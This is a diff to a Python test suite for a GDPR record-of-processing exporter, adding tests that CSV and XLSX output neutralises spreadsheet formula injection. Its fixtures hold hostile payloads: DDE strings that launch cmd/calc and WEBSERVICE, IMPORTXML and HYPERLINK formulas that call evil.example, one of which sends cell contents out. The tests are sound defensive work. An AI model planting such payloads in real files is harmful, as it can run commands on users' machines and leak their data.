@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 from typing import Any
 
@@ -12,7 +13,26 @@ from conftest import MAXIRESPONSE, write_yaml
 import pia
 from pia.cli import main
 from pia.model import Assessment
-from pia.ropa import COLUMNS, NOT_RECORDED, RopaError, ropa, write
+from pia.ropa import (
+    ADDRESS,
+    ASSESSMENT,
+    COLUMNS,
+    COMPANY_NUMBER,
+    CONTROLLER,
+    DATA,
+    DPO,
+    NOT_RECORDED,
+    PURPOSE,
+    PURPOSE_DESCRIPTION,
+    RECIPIENTS,
+    SECURITY,
+    SUBJECTS,
+    TRANSFERS,
+    RopaError,
+    ropa,
+    write,
+)
+from pia.spreadsheet import XLSX_CELL_CHARS, csv_bytes, formula_like, xlsx_bytes
 
 ART30 = ("(a)", "(b)", "(c)", "(d)", "(e)", "(f)", "(g)")
 
@@ -176,3 +196,120 @@ def test_the_time_limit_for_erasure_includes_the_archive(minimal: dict[str, Any]
     assert row["Art. 30(1)(f) envisaged time limits for erasure"] == (
         "customers: 3 years, from last purchase, then archive 7 years"
     )
+
+
+# --- formula injection: analyst text stays text in every spreadsheet ------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example","x")'
+# Analyst texts that start a cell of the record, each with a formula (or a sign) in front.
+PAYLOADS: list[tuple[tuple[str | int, ...], str]] = [
+    (("metadata", "title"), "=1+1"),
+    (("metadata", "controller", "name"), "@SUM(1+1)*cmd|' /C calc'!A0"),
+    (("metadata", "controller", "address"), "+32 2 201 23 45, Brussels"),
+    (("metadata", "controller", "company_number"), "-0214.596.464"),
+    (("metadata", "dpo_contact"), '=WEBSERVICE("http://evil.example/?"&A1)'),
+    (("purposes", 0, "name"), "-2+3+cmd|' /C calc'!A0"),
+    (("purposes", 0, "description"), '=IMPORTXML("http://evil.example", "//a")'),
+    (("description", "data_categories", 0, "name"), HYPERLINK),
+    (("description", "data_subjects", 0, "name"), "@members"),
+    (("description", "recipients", 0, "name"), "+Mailer"),  # starts the transfers cell too
+    (("measures", 0, "title"), "=1+2"),
+]
+# The cells they start: 12 of the record's 15 (the issue counted 13 in its own payload file).
+HOSTILE_COLUMNS = [
+    *(ASSESSMENT, CONTROLLER, ADDRESS, COMPANY_NUMBER, DPO, PURPOSE, PURPOSE_DESCRIPTION),
+    *(SUBJECTS, DATA, RECIPIENTS, TRANSFERS, SECURITY),
+]
+
+
+def hostile_record(minimal: dict[str, Any]) -> pd.DataFrame:
+    minimal["description"]["recipients"] = [
+        {"id": "mailer", "name": "x", "role": "processor", "country": "US"}
+    ]
+    minimal["description"]["transfers"] = [
+        {"id": "to_us", "recipient": "mailer", "country": "US", "kind": "storage"}
+    ]
+    minimal["measures"] = [
+        {"id": "tls", "title": "x", "kind": "technical", "status": "implemented"}
+    ]
+    for path, payload in PAYLOADS:
+        node = minimal
+        for part in path[:-1]:
+            node = node[part]
+        node[path[-1]] = payload
+    return ropa([Assessment.model_validate(minimal)])
+
+
+@pytest.mark.parametrize(
+    ("value", "formula"),
+    [
+        ("=1+1", True),
+        (HYPERLINK, True),
+        ("+32 2 201 23 45", True),
+        ("-5", True),
+        ("@SUM(A1)", True),
+        ("\t=1+1", True),
+        ("\r=1+1", True),
+        ("\tplain", True),  # a tab or carriage return in front hides what follows
+        ("   =1+1", True),  # blanks may be trimmed by whoever imports the file
+        ("\n@x", True),
+        ("a = b", False),
+        ("e-mail", False),
+        ("'=1+1", False),  # already text to a spreadsheet
+        ("", False),
+        (-5, False),  # a number stays a number
+        (None, False),
+    ],
+)
+def test_which_cells_a_spreadsheet_takes_for_formulas(value: object, formula: bool) -> None:
+    assert formula_like(value) is formula
+
+
+def test_no_csv_cell_of_the_record_starts_a_formula(tmp_path: Path, minimal) -> None:
+    frame = hostile_record(minimal)
+    hostile = [column for column in COLUMNS if formula_like(frame.iloc[0][column])]
+    assert hostile == HOSTILE_COLUMNS  # what an unguarded CSV would hand to a spreadsheet
+    out = write(frame, tmp_path / "ropa.csv")
+    header, row = list(csv.reader(out.read_text("utf-8").splitlines()))
+    assert header == list(COLUMNS)
+    assert [cell for cell in row if formula_like(cell)] == []
+    for column, cell in zip(COLUMNS, row, strict=True):
+        value = frame.iloc[0][column]
+        assert cell == ("'" + value if column in hostile else value), column  # still readable
+    assert row[COLUMNS.index(DATA)] == "'" + HYPERLINK
+
+
+def test_no_xlsx_cell_of_the_record_is_a_formula(tmp_path: Path, minimal) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    frame = hostile_record(minimal)
+    out = write(frame, tmp_path / "ropa.xlsx")
+    sheet = openpyxl.load_workbook(out).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert {c.data_type for c in cells} == {"s"}
+    link = sheet.cell(row=2, column=COLUMNS.index(DATA) + 1)
+    assert (link.value, link.data_type, link.quotePrefix) == (HYPERLINK, "s", True)
+    assert link.hyperlink is None
+    again = pd.read_excel(out, dtype=str, keep_default_na=False)
+    pd.testing.assert_frame_equal(again, frame)  # every value exactly as written
+
+
+def test_numbers_stay_numbers_and_the_headers_are_guarded_too(tmp_path: Path) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    frame = pd.DataFrame({"count": [-5, 3], "=name": ["-x", "ok"]})
+    assert csv_bytes(frame).decode() == "count,'=name\n-5,'-x\n3,ok\n"
+    out = tmp_path / "t.xlsx"
+    out.write_bytes(xlsx_bytes(frame, "t"))
+    sheet = openpyxl.load_workbook(out).active
+    assert (sheet["A2"].value, sheet["A2"].data_type) == (-5, "n")
+    assert (sheet["B1"].value, sheet["B1"].data_type) == ("=name", "s")
+
+
+def test_a_text_longer_than_an_excel_cell_is_cut_and_says_so(tmp_path: Path) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    long = "x" * 50_000
+    out = tmp_path / "t.xlsx"
+    out.write_bytes(xlsx_bytes(pd.DataFrame({"text": [long]}), "t"))
+    value = openpyxl.load_workbook(out).active["A2"].value
+    assert len(value) == XLSX_CELL_CHARS
+    assert value.endswith("[cut: 50,000 characters in all; the CSV has them]")
